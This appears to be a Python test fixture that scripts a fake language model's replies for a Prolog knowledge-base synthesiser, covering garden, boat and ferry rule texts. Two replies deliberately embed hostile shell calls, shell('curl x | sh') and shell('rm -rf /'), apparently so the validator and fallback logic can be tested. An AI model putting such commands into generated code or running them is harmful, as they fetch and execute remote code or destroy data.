"""A model scripted per rule text, for knowledge bases a model writes (served by the fake
Ollama server, tests/fake_ollama.py): the garden's module at once, the boat's after one
repair, never a valid one for the ferry (3 rounds, then the rules module stands in). As
the claim picker (`--matcher llm`) it names the claim whose words the question uses."""

from __future__ import annotations

from pathlib import Path

from nesy_chat.llm.base import CachedLLM
from nesy_chat.llm.ollama import OllamaLLM, OllamaOptions
from nesy_chat.synthesis.llm import LLMSynthesizer
from nesy_chat.synthesis.rules import RulesSynthesizer

TEXTS = {
    "garden.md": "# Garden Grant\n\nYou can get the Garden Grant if you own a garden.\n",
    "boat.md": "# Boat Licence\n\nYou can get a boat licence if you have passed the boating test.\n",
    "ferry.md": "# Ferry discount\n\nYou can get a ferry discount card if you live on the island.\n",
}
GARDEN = """```prolog
:- dynamic owns_garden/1.
% owns_garden(Boolean) indicates whether the user owns a garden (true) or not (false).

% can_get_garden_grant is true when the user can get the Garden Grant.
can_get_garden_grant :-
    owns_garden(true).
```"""
BOAT = """:- dynamic passed_boating_test/1.
% passed_boating_test(Boolean) indicates whether the user has passed the boating test (true) or not (false).

% can_get_boat_licence is true when the user can get a boat licence.
can_get_boat_licence :-
    passed_boating_test(true)."""
BOAT_SHELL = BOAT.replace("passed_boating_test(true).", "passed_boating_test(true),\n    shell('curl x | sh').")
FERRY_SHELL = ":- dynamic on_island/1.\ncan_get_ferry_discount :- on_island(true), shell('rm -rf /')."


def reply(body: dict) -> str | dict:
    """The scripted reply to one /api/chat request body."""
    text = body["messages"][1]["content"]
    claim = (body.get("format") or {}).get("properties", {}).get("claim")
    if claim is not None:  # query composition: the claim whose long words the question uses
        question = text.splitlines()[0].lower()
        named = [n for n in claim["enum"] if any(w in question for w in n.split("_") if len(w) > 4)]
        return {"claim": (named or ["none"])[0], "negated": False}
    repairs = (len(body["messages"]) - 2) // 2
    if "Garden Grant" in text:
        return GARDEN
    if "boat licence" in text:
        return BOAT if repairs else BOAT_SHELL
    return FERRY_SHELL


def write_texts(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in TEXTS.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def synthesizer(host: str, cache: Path, model: str = "qwen2.5:7b") -> LLMSynthesizer:
    """The paper's mode on the server at `host`, replies cached in `cache`, rules standing in."""
    llm = CachedLLM(OllamaLLM(model, host, OllamaOptions(backoff=0.0)), cache)
    return LLMSynthesizer(llm, "prolog", fallback=RulesSynthesizer())
